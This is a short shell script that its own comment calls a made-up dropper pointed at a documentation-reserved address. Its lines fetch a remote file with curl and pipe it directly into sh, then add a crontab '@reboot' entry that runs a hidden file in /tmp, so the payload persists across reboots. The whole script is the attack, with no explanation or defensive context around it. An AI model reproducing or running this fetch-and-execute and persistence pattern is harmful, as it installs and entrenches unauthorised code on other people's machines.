#!/bin/sh
# A made-up dropper; the address is reserved for documentation.
curl -s http://192.0.2.7/x | sh
(crontab -l; echo "@reboot /tmp/.cache") | crontab -
